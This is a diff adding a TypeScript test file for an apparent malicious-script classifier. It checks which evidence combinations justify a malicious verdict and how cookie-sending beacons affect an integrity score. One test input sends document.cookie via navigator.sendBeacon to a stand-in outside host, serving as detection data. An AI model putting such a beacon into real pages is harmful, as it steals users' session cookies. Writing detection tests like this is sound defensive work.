@@ -1,0 +1,38 @@
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+import { type Evidence, isSufficient } from './evidence.ts';
+import { classifyScript } from './script-classifier.ts';
+
+describe('evidence of a malicious verdict', () => {
+  const cases: readonly (readonly [shown: readonly (readonly Evidence[])[], isEnough: boolean])[] =
+    [
+      [[], false],
+      [[['taken']], false],
+      [[['taken'], ['taken']], false],
+      [[['taken'], ['destination']], true],
+      [[['destination'], [], ['taken']], true],
+      [[['taken'], ['hidden']], true],
+      [[['run']], false],
+      [[['run'], ['hidden']], true],
+      [[['hidden'], ['destination']], false],
+      [[['run', 'hidden']], false],
+      [[['run', 'hidden'], ['run']], true],
+      [[['decisive']], true],
+    ];
+  for (const [shown, isEnough] of cases) {
+    it(`${isEnough ? 'suffices' : 'does not suffice'}: ${JSON.stringify(shown)}`, () => {
+      assert.equal(isSufficient(shown), isEnough);
+    });
+  }
+
+  const integrity = (code: string): number | undefined => {
+    const verdict = classifyScript(code);
+    return verdict.kind === 'scored' ? verdict.scores.integrity : undefined;
+  };
+
+  it('is missing if cookies go to a host that the settings name', () => {
+    assert.equal(integrity(`navigator.sendBeacon(settings.url, document.cookie);`), 10);
+    assert.equal(integrity(`navigator.sendBeacon('/own', document.cookie);`), 10);
+    assert.ok((integrity(`navigator.sendBeacon('//x.test/', document.cookie);`) ?? 99) < 10);
+  });
+});
